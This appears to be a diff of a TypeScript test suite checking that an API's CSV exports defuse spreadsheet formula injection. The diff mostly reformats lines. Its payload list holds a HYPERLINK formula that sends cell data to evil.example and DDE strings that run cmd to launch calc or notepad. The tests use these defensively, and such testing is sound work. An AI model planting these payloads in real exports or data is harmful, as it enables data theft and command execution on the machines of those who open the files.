@@ -35,8 +35,8 @@ const DANGEROUS_START = /^[=+\-@\t\r]/;
 const PAYLOADS = {
   hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"Докладніше")',
   dde: "@SUM(1+1)*cmd|' /C calc'!A0",
-  plus: '+1+cmd|\' /C notepad\'!A0',
-  minus: '-2+3+cmd|\' /C calc\'!A0',
+  plus: "+1+cmd|' /C notepad'!A0",
+  minus: "-2+3+cmd|' /C calc'!A0",
   tab: '\t=1+1',
   cr: '\r=1+1',
 };
@@ -67,7 +67,10 @@ const FIXTURES: Record<string, (tag: string) => Promise<string[]>> = {
     const role = await t.call('POST', `${API}/staff_role`, { token: admin, body: { name: roleName, permissions: {} } });
     expect(role.statusCode, role.body).toBe(200);
     const complexName = `${PAYLOADS.minus} ${tag}`;
-    const complex = await t.call('POST', `${API}/complexes`, { token: admin, body: { name: complexName, city: 'Київ', address: 'вул. Тестова, 1', description: '' } });
+    const complex = await t.call('POST', `${API}/complexes`, {
+      token: admin,
+      body: { name: complexName, city: 'Київ', address: 'вул. Тестова, 1', description: '' },
+    });
     expect(complex.statusCode, complex.body).toBe(200);
     for (const name of [PAYLOADS.hyperlink, PAYLOADS.dde]) {
       const staff = await t.call('POST', `${API}/staff`, {
@@ -89,7 +92,9 @@ for (const e of ENTITIES as readonly EntityDeclaration[]) {
       sql`select h.id as house_id, h.complex_id, r.member_id, r.realty_id from houses h join realty u on u.house_id = h.id join residents r on r.realty_id = u.id where h.organization_id = ${t.organizationId} and h.complex_id is not null order by h.id limit 1`,
     );
     // A field with a declared pattern (a plate) never holds free text, formulas included.
-    const texts = Object.entries(e.fields).filter(([, f]) => (f.type === 'text' || f.type === 'multiline') && f.pattern === undefined && f.input !== false && (f.export ?? f.list !== false));
+    const texts = Object.entries(e.fields).filter(
+      ([, f]) => (f.type === 'text' || f.type === 'multiline') && f.pattern === undefined && f.input !== false && (f.export ?? f.list !== false),
+    );
     expect(texts.length, `${e.name} exports a text input`).toBeGreaterThan(0);
     const payloads = [PAYLOADS.hyperlink, PAYLOADS.dde, PAYLOADS.plus, PAYLOADS.minus];
     // A short field (a unit number) takes the start of the payload: it still begins like a formula.
@@ -125,9 +130,13 @@ describe('CSV formula injection', () => {
       const cells = (parse(res.body.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][]).flat();
       // A negative number (a parking floor, -1) is a number cell, not a formula.
       for (const cell of cells) if (DANGEROUS_START.test(cell) && !/^-\d+(\.\d+)?$/.test(cell)) wrong.push(`${r.key}: ${JSON.stringify(cell)}`);
-      for (const value of expected) if (!cells.includes(`'${value}`)) wrong.push(`${r.key}: ${JSON.stringify(value)} is not in the file as '${JSON.stringify(value)}`);
+      for (const value of expected)
+        if (!cells.includes(`'${value}`)) wrong.push(`${r.key}: ${JSON.stringify(value)} is not in the file as '${JSON.stringify(value)}`);
       // Ordinary text is left alone.
-      expect(cells.some((c) => c.startsWith("'") && !DANGEROUS_START.test(c.slice(1))), r.key).toBe(false);
+      expect(
+        cells.some((c) => c.startsWith("'") && !DANGEROUS_START.test(c.slice(1))),
+        r.key,
+      ).toBe(false);
     }
     expect(wrong).toEqual([]);
   });
